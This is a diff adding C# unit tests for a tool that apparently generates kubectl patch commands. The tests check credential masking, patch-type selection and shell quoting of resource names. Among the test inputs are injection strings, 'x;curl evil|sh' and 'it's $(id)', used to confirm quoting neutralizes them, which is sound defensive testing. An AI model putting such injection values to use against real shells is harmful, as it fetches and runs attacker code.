@@ -95,6 +95,51 @@ public class HandPatchTests
         Assert.Equal("url=x\ndb.password = (secret, not shown)\nlevel=1", Masking.Show("ConfigMap", Path("data", "MODE"), Path("data", "MODE").In(Parse(config))));
     }
 
+    /// <summary>What is masked where people read it is in no command either.</summary>
+    [Theory]
+    [InlineData("repo: https://glpat-abcdef@git.example.com/shop.git", "glpat-abcdef")]
+    [InlineData("url redis://hunter2@cache:6379", "hunter2")]
+    [InlineData("helm upgrade --set db.pw=hunter2", "hunter2")]
+    [InlineData("db.password = hunter2", "hunter2")]
+    public void A_credential_in_an_address_or_an_option_is_in_no_command_and_no_card(string line, string secret)
+    {
+        var (file, list) = (Config.Replace("it's good", $"a=1\\n{line}", StringComparison.Ordinal), Config.Replace("\"it's good\"", $"[\"{line}\"]", StringComparison.Ordinal));
+
+        Assert.DoesNotContain(secret, Masking.Show("ConfigMap", Path("data", "MODE"), Path("data", "MODE").In(Parse(file))), StringComparison.Ordinal);
+        Assert.Null(Of(file, null, Changed("data", "MODE")));
+        Assert.Null(Of(list, null, Changed("data", "MODE")));
+    }
+
+    [Theory]
+    [InlineData("https://hunter2@cache")]
+    [InlineData("--set db.pw=hunter2")]
+    public void A_credential_in_a_list_is_not_shown(string argument) =>
+        Assert.DoesNotContain("hunter2", Masking.Show("Deployment", Path("spec", "args"), Parse($"[\"{argument}\",\"x\"]")), StringComparison.Ordinal);
+
+    /// <summary>They have the suffix of Kubernetes' own and are definitions like any other.</summary>
+    [Theory]
+    [InlineData("gateway.networking.k8s.io/v1", "HTTPRoute", "merge")]
+    [InlineData("snapshot.storage.k8s.io/v1", "VolumeSnapshot", "merge")]
+    [InlineData("networking.k8s.io/v1", "Ingress", "strategic")]
+    [InlineData("rbac.authorization.k8s.io/v1", "Role", "strategic")]
+    public void Only_what_the_api_server_knows_by_heart_gets_a_strategic_patch(string version, string kind, string type) => Assert.Contains(
+        $" --type {type} ",
+        Of(Config.Replace("\"v1\"", $"\"{version}\"", StringComparison.Ordinal).Replace("ConfigMap", kind, StringComparison.Ordinal), null, Changed("data", "LEVEL")), StringComparison.Ordinal);
+
+    [Theory]
+    [InlineData("system:aggregate-to-view", " system:aggregate-to-view --namespace")]
+    [InlineData("x;curl evil|sh", " 'x;curl evil|sh' --namespace")]
+    [InlineData("it's $(id)", @" 'it'\''s $(id)' --namespace")]
+    public void A_name_is_a_word_for_the_shell_and_nothing_else(string name, string said) => Assert.Contains(said, Called(name), StringComparison.Ordinal);
+
+    [Fact]
+    public void What_is_called_like_an_option_gets_no_command() => Assert.Null(Called("--kubeconfig=x"));
+
+    /// <summary>Chats take out what nobody sees, and what is pasted from there would be another file.</summary>
+    [Fact]
+    public void What_nobody_sees_is_written_out() => Assert.Contains(
+        """{"LEVEL":"\uFEFFgr\u00FC\u200Dn \uD83C\uDF89"}""", Of(Config.Replace("\"info\"", "\"\ufeffgr\u00fc\u200dn 🎉\"", StringComparison.Ordinal), null, Changed("data", "LEVEL")), StringComparison.Ordinal);
+
     [Fact]
     public void What_only_git_changed_is_not_what_hands_did() => Assert.Null(Of(Config, null, new FieldDrift(Path("data", "MODE"), new("", null, null, DriftClass.Changed, null, null))));
 
@@ -137,6 +182,8 @@ public class HandPatchTests
     }
 
     private static string? Of(string live, string? git, params FieldDrift[] found) => HandPatch.Of(Parse(live), git is null ? default : Parse(git), found).Command;
+
+    private static string? Called(string name) => Of(Config.Replace("checkout-config", name, StringComparison.Ordinal), null, Changed("data", "LEVEL"));
 
     private static string? Show(string value) => Masking.Show("ConfigMap", Path("data", "app"), JsonSerializer.SerializeToElement(value));
 
